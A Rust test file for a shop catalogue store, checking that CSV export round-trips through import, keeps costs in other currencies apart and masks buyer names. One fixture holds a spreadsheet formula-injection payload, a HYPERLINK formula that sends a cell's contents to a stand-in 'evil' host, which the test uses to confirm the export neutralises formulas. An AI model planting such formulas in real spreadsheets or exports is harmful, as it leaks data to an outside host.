//! Export: what is written is what import reads.

use crate::testing::*;
use hawker_domain::{
    Currency, Money, Product,
    order::OrderSource,
    stock::{MovementReason, StockMovement},
};
use std::{fs, path::Path};

async fn import(store: &crate::Store, path: &Path) -> crate::ImportReport {
    store.import_catalogue(path, Currency::CNY, false, |_, _| true).await.unwrap()
}

/// Everything but what a new store gives out anew.
fn without_ids(products: Vec<Product>) -> Vec<Product> {
    products.into_iter().map(|product| Product { id: uuid::Uuid::nil().into(), ..product }).collect()
}

#[tokio::test]
async fn a_catalogue_comes_back_as_it_was_exported() {
    let store = store().await;
    let odd = [
        ("007", "零, \"半\" 价; 红 L", "Brand", "多\r\n行\n描述", "0690123456789", 1_280_050, "CNY"),
        ("=SUM(1)", "=HYPERLINK(\"http://evil/?\"&A1,\"ok\")", "-", "=\"quoted\"", "6901234567890", 5, "EUR"),
        ("红 L", "Shirt", "", "", "", 1580, "JPY"),
        ("B-1", "@home", "\"", "a\tb", "", 0, "CNY"),
    ];
    for (sku_text, title, brand, description, barcode, minor, currency) in odd {
        let product = Product {
            brand: brand.into(),
            description: description.into(),
            barcode: barcode.into(),
            price: Money::new(minor, currency.parse().unwrap()),
            cost: (minor > 9).then(|| Money::new(minor / 2, currency.parse().unwrap())),
            aliases: vec!["x-large".into(), "红 特大".into(), "S; M；L".into(), "\"best\"".into()],
            variant: hawker_domain::Variant::new("style 7", sku_text),
            ..product(sku_text, title)
        };
        store.put_product(&product).await.unwrap();
    }
    let received = StockMovement { sku: sku("007"), delta: 12, reason: MovementReason::Received, order_id: None };
    store.move_stock(&received).await.unwrap();
    let file = store.dir.path().join("out.csv");
    let text = store.export_catalogue().await.unwrap();
    assert!(!text.contains(",=") && !text.contains(",\"=H"), "nothing a spreadsheet would run: {text}");
    fs::write(&file, text).unwrap();

    let again = import(&store, &file).await;
    assert_eq!((again.unchanged, again.problems), (4, vec![]), "into the same store it changes nothing");
    let other = crate::testing::store().await;
    let report = import(&other, &file).await;
    assert_eq!((report.added, report.problems), (4, vec![]));
    let (here, there) = (store.all_products().await.unwrap(), other.all_products().await.unwrap());
    assert_eq!(without_ids(here), without_ids(there));
    assert_eq!(other.level(&sku("007")).await.unwrap().on_hand, 12);
    assert_eq!(other.level(&sku("B-1")).await.unwrap().on_hand, 0);
}

#[tokio::test]
async fn a_cost_in_another_currency_than_its_price_is_not_written_as_if_it_were_in_the_same() {
    let store = store().await;
    // Two devices edited one each: the table has one column for a currency.
    store.put_product(&Product { cost: Some(Money::new(5, Currency::EUR)), ..product("A", "a") }).await.unwrap();
    let text = store.export_catalogue().await.unwrap();
    assert!(text.contains(",15.80,,CNY,"), "{text}");
    let file = store.dir.path().join("out.csv");
    fs::write(&file, text).unwrap();
    let again = import(&store, &file).await;
    assert_eq!((again.unchanged, again.problems), (1, vec![]), "and what is here stays");
}

#[tokio::test]
async fn orders_are_exported_a_row_a_line_and_name_nobody() {
    let store = store().await;
    let mut sale = order(OrderSource::Venue, &[("A", 2), ("0042", 1)]);
    sale.buyer = "张小雨".into();
    store.record_venue_sale(&sale).await.unwrap();
    let text = store.export_orders().await.unwrap();
    let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 3, "{text}");
    assert!(lines[0].starts_with("order,placed_at,source,state,show,sku,title,quantity,unit_price,currency"));
    let first = format!("{},2023-11-14T22:13:20Z,venue,paid,,A,title of A,2,15.80,CNY,47.40,张*,,,,", sale.id);
    assert_eq!(lines[1], first);
    assert!(lines[2].contains(",\"=\"\"0042\"\"\",title of 0042,1,"), "{}", lines[2]);
    assert!(!text.contains("小雨"), "{text}");
}
